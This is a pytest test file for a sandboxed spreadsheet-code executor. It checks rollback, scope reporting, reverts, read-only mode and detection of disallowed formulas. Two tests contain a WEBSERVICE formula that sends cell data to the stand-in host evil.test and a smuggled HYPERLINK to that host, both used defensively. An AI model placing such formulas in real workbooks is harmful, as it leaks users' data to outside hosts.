import pytest
from executions import executing

from tieout.execution.ports import (
    Killed,
    Returned,
    Threw,
)
from tieout.office_wire.build import BatchBuilder
from tieout.workbook.address import Address
from tieout.workbook.compare import compare

FILL = """// scope: Sheet1!D2:D200
async function execute() {
  await sheet.setRange("D2:D200", "=B2*C2");
}"""


def kinds(result) -> dict[str, str]:
    return {str(change.address): change.kind for change in result.changes.cells}


async def test_a_filled_column_is_written_and_its_total_recalculated() -> None:
    async with executing() as (executor, host):
        result = await executor.execute(FILL, execution_id="e1")
        assert (result.outcome, result.is_error, result.undo_id) == ("applied", False, "e1")
        found = kinds(result)
        assert sum(kind == "written" for kind in found.values()) == 199
        assert found["Summary!B1"] == "recalculated"
        assert "Changed without issues: 199 cells" in result.text
        assert "→ D2: ∅ -> 11,988 [=B2*C2]" in result.text
        assert "Recalculated: 1 cell   → Summary!B1: 0 -> 2582424.99" in result.text
        # look before (3, the first time), the code's one sync, look after
        assert len(host.batches) == 5


async def test_a_later_execution_takes_three_batches() -> None:
    async with executing() as (executor, host):
        await executor.overview()
        already = len(host.batches)
        await executor.execute(FILL, execution_id="e1")
        assert len(host.batches) - already == 3


async def test_an_exclusive_workbook_is_not_read_again_before_a_run() -> None:
    async with executing(exclusive=True) as (executor, host):
        await executor.overview()
        already = len(host.batches)
        result = await executor.execute(FILL, execution_id="e1")
        assert len(host.batches) - already == 2
        assert result.outcome == "applied"


async def test_what_lies_outside_the_scope_is_collateral() -> None:
    async with executing() as (executor, _):
        code = '// scope: Sheet1!B2\nawait sheet.setCell("B2", 1); await sheet.setCell("F9", 2);'
        result = await executor.execute(code, execution_id="e1")
        assert kinds(result) == {"Sheet1!B2": "written", "Sheet1!F9": "collateral"}
        assert "Outside the scope you named: 1 cell   → Sheet1!F9: ∅ -> 2" in result.text


async def test_an_error_value_must_be_fixed_and_its_followers_are_counted() -> None:
    async with executing() as (executor, _):
        await executor.execute(FILL, execution_id="e1")
        code = 'await sheet.setCell("D57", "=B57*#REF!")'
        result = await executor.execute(code, execution_id="e2")
        (finding,) = result.changes.findings
        assert (finding.code, [cell.local for cell in finding.cells]) == (
            "INVALID_FORMULA",
            ["D57"],
        )
        assert "1 cell downstream now shows an error too: Summary!B1" in result.text
        assert result.text.index("MUST FIX") < result.text.index("Recalculated")


async def test_a_throw_after_writing_is_taken_back() -> None:
    async with executing() as (executor, _):
        before = await executor.snapshot()
        code = """
          await sheet.setCell("B2", 1);
          general.addSheet("Extra"); await sheet.setCell("Extra!A1", 5);
          await context.sync();
          sheet.originalSheet.getRange("A1:B2").values = [[1]];
          await context.sync();"""
        result = await executor.execute(code, execution_id="e1")
        assert isinstance(result.sandbox, Threw)
        assert (result.outcome, result.is_error, result.undo_id) == ("rolled_back", True, "")
        assert "ERROR InvalidArgument at Range.values" in result.text
        assert "range.values = ...;" in result.text
        assert "was taken back" in result.text
        assert await executor.snapshot() == before


async def test_a_throw_before_any_write_applies_nothing() -> None:
    async with executing() as (executor, host):
        code = 'const [r] = [sheet.originalSheet.getRange("A1")]; r.setValue(3);'
        result = await executor.execute(code, execution_id="e1")
        assert (result.outcome, result.is_error) == ("not_applied", True)
        assert "did you mean range.values" in result.text
        assert len(host.batches) == 3


async def test_what_a_failed_run_set_beyond_undo_is_named_as_staying() -> None:
    async with executing() as (executor, _):
        code = """sheet.originalSheet.getRange("A1:D1").format.fill.color = "#FF0000";
          sheet.originalSheet.getRange("A1").clear();
          await context.sync(); throw new Error("no");"""
        result = await executor.execute(code, execution_id="e1")
        assert result.outcome == "rolled_back"
        assert "Not restored: notes on Sheet1!A1, if there were any." in result.text


async def test_a_forbidden_formula_reaches_no_cell() -> None:
    async with executing() as (executor, _):
        code = """await sheet.setCell("B2", 1);
          await sheet.setCell("F2", '=WEBSERVICE("http://evil.test/?"&A2)');"""
        result = await executor.execute(code, execution_id="e1")
        assert (result.outcome, result.is_error) == ("not_applied", True)
        assert "Sheet1!F2 uses the function WEBSERVICE" in result.text
        assert (await executor.snapshot()).state(Address.parse("Sheet1!B2")).value == 1200.0


async def test_a_formula_that_slipped_past_the_gate_is_found_and_taken_back() -> None:
    async with executing() as (executor, host):
        code = 'await sheet.setCell("F2", 1); await context.sync();'

        async def smuggle(batch) -> None:
            if batch.flags & 1 and "F2" in str(batch.body):
                host.before_send = None
                await host.write("Sheet1", "G2", "Formulas", '=HYPERLINK("http://evil.test","x")')

        await executor.snapshot()
        host.before_send = smuggle
        result = await executor.execute(code, execution_id="e1")
        assert (result.outcome, result.is_error) == ("rolled_back", True)
        assert "Sheet1!G2 ended up with HYPERLINK" in result.text
        assert (await executor.snapshot()).state(Address.parse("Sheet1!G2")).is_empty


async def test_an_endless_loop_is_killed_and_taken_back() -> None:
    async with executing() as (executor, _):
        code = 'await sheet.setCell("B2", 1); await context.sync(); for (;;) {}'
        result = await executor.execute(code, execution_id="e1")
        assert isinstance(result.sandbox, Killed)
        assert result.outcome == "rolled_back"
        assert "The code was stopped" in result.text
        after = await executor.execute("return 1", execution_id="e2")
        assert isinstance(after.sandbox, Returned)


async def test_what_the_user_changed_in_between_is_reported_once() -> None:
    async with executing() as (executor, host):
        await executor.execute(FILL, execution_id="e1")
        await host.write("Sheet1", "B2", "Values", 5000)
        result = await executor.execute("return 1", execution_id="e2")
        assert "somebody else changed 1 cell" in result.text
        assert "Sheet1!B2: 1200 -> 5000" in result.text
        assert result.changes.is_empty
        again = await executor.execute("return 1", execution_id="e3")
        assert again.text == "Returned: 1"


async def test_reads_are_shown_with_tables_headers_and_patterns() -> None:
    async with executing() as (executor, _):
        await executor.execute(FILL, execution_id="e1")
        code = """const r = await sheet.getCellRange("C20:D40");
          const used = await sheet.getUsedRange("Summary");
          return [r.values.length, r.formulas[0][1], r.text[0][1], used.address];"""
        result = await executor.execute(code, execution_id="e2")
        assert "Sheet1!C20:D40@r2 (21×2)" in result.text
        assert "D20:D40 F1 =RC[-2]*RC[-1]" in result.text
        assert "1* ||Price|Revenue" in result.text
        assert 'Returned: [21, "=B20*C20", "12,168", "Summary!A1:B1"]' in result.text


async def test_whole_columns_and_names_are_read_where_they_are_filled() -> None:
    async with executing() as (executor, host):
        builder = BatchBuilder()
        builder.workbook.child("Names").create("Add", "rate", "=Sheet1!$C$2", None)
        await host.inner.send(builder.build())
        code = """const a = await sheet.getCellRange("A:A"); const b = await sheet.getCellRange("rate");
          const c = await sheet.getCellRange("Z:Z");
          return [a.address, b.values, c.values.length];"""
        result = await executor.execute(code, execution_id="e1")
        assert 'Returned: ["Sheet1!A1:A200", [[9.99]], 0]' in result.text


async def test_tables_are_seen_read_and_taken_back() -> None:
    async with executing() as (executor, _):
        before = await executor.snapshot()
        code = """const t = sheet.originalSheet.tables.add("A1:D200", true); t.name = "Sales";
          await context.sync();"""
        added = await executor.execute(code, execution_id="e1")
        assert "table Sales added (Sheet1!A1:D200)" in added.text
        code = """const t = context.workbook.tables.getItem("Sales");
          t.columns.add(null, [["Tax"], ...Array(199).fill(["=[@Units]*0.2"])]);
          await context.sync();
          const r = await sheet.getCellRange("Sales[Tax]");
          return [r.address, (await sheet.getCellRange("Sales")).address];"""
        grown = await executor.execute(code, execution_id="e2")
        assert 'Returned: ["Sheet1!E2:E200", "Sheet1!A1:E200"]' in grown.text
        assert "table Sales changed (Sheet1!A1:D200 → Sheet1!A1:E200)" in grown.text
        assert (await executor.revert("e2")).not_covered == ()
        assert (await executor.revert("e1")).not_covered == ()
        assert compare(before, await executor.snapshot()).is_empty


async def test_what_cannot_be_read_is_a_sentence_for_the_code() -> None:
    async with executing() as (executor, _):
        code = 'try { await sheet.getCellRange("A1:Z99999") } catch (e) { return e.message }'
        result = await executor.execute(code, execution_id="e1")
        assert "read at most 100,000 at a time" in result.text
        code = 'await sheet.getCellRange("Nope!A1")'
        result = await executor.execute(code, execution_id="e2")
        assert (result.outcome, result.is_error) == ("not_applied", True)
        assert "No sheet 'Nope'. Sheets: Sheet1, Summary." in result.text


async def test_a_read_only_session_changes_nothing() -> None:
    async with executing(mode="read_only") as (executor, _):
        before = await executor.snapshot()
        result = await executor.execute(FILL, execution_id="e1")
        assert (result.outcome, result.is_error) == ("not_applied", True)
        assert "read-only" in result.text
        assert await executor.snapshot() == before


async def test_a_revert_restores_and_can_be_reverted() -> None:
    async with executing() as (executor, _):
        before = await executor.snapshot()
        await executor.execute(FILL, execution_id="e1")
        filled = await executor.snapshot()
        undone = await executor.revert("e1")
        assert (undone.restored, undone.kept) == (199, ())
        assert await executor.snapshot() == before
        assert executor.undo_ids == (undone.undo_id,)
        redone = await executor.revert(undone.undo_id)
        assert redone.restored == 199
        assert await executor.snapshot() == filled


async def test_a_revert_leaves_what_the_user_wrote_since() -> None:
    async with executing() as (executor, host):
        await executor.execute(FILL, execution_id="e1")
        await host.write("Sheet1", "D5", "Values", 1)
        undone = await executor.revert("e1")
        assert undone.restored == 198
        assert [str(cell) for cell in undone.kept] == ["Sheet1!D5"]


async def test_manual_calculation_is_said_with_every_change() -> None:
    async with executing() as (executor, _):
        code = """// scope: Sheet1!B2, calculation
          context.application.calculationMode = "Manual"; await sheet.setCell("B2", 5);"""
        result = await executor.execute(code, execution_id="e1")
        assert "Calculation is manual" in result.text
        assert "calculation mode workbook changed (Automatic → Manual)" in result.text


async def test_an_inserted_row_is_one_change_and_what_it_moved_is_none() -> None:
    async with executing() as (executor, _):
        await executor.execute(FILL, execution_id="e1")
        before = await executor.snapshot()
        code = """sheet.originalSheet.getRange("3:3").insert("Down");
          await sheet.setRange("A3:D3", [["West", 5, 2, "=B3*C3"]]); await sheet.setCell("B10", 7);"""
        result = await executor.execute(code, execution_id="e2")
        assert "rows Sheet1!3:3 added" in result.text
        assert "Changed without issues: 5 cells" in result.text
        assert kinds(result)["Sheet1!D10"] == "recalculated"
        await executor.revert("e2")
        assert compare(before, await executor.snapshot()).cells == ()


async def test_moved_cells_are_said_to_be_counted_as_changed() -> None:
    async with executing() as (executor, _):
        before = await executor.snapshot()
        code = 'sheet.originalSheet.getRange("B3:B4").insert("Down"); await context.sync();'
        result = await executor.execute(code, execution_id="e1")
        assert "cells that only moved are counted as changed" in result.text
        await executor.revert("e1")
        assert compare(before, await executor.snapshot()).cells == ()


async def test_a_spill_counts_as_recalculated_not_as_collateral() -> None:
    async with executing() as (executor, _):
        code = '// scope: Sheet1!H1\nawait sheet.setCell("H1", "=SEQUENCE(3)")'
        result = await executor.execute(code, execution_id="e1")
        assert kinds(result) == {
            "Sheet1!H1": "written",
            "Sheet1!H2": "recalculated",
            "Sheet1!H3": "recalculated",
        }
        undone = await executor.revert("e1")
        assert undone.restored == 1
        assert (await executor.snapshot()).state(Address.parse("Sheet1!H3")).is_empty


@pytest.mark.parametrize(
    ("code", "named"),
    [
        ("s.pageLayout.orientation = 'Landscape'", "PageLayout.orientation on Sheet1"),
        ("s.shapes.addGeometricShape('Rectangle')", "ShapeCollection.addGeometricShape on Sheet1"),
        ("s.getRange('2:5').group('ByRows')", "Range.group on Sheet1!2:5"),
    ],
)
async def test_what_can_not_be_compared_is_named_instead_of_nothing_changed(
    code: str, named: str
) -> None:
    whole = f"async function execute() {{ const s = context.workbook.worksheets.getItem('Sheet1'); {code}; }}"
    async with executing() as (executor, _):
        result = await executor.execute(whole, execution_id="e1")
    assert "Nothing changed" not in result.text
    assert f"setting {named} changed (set by the code; not compared" in result.text
    assert result.undo_id == ""
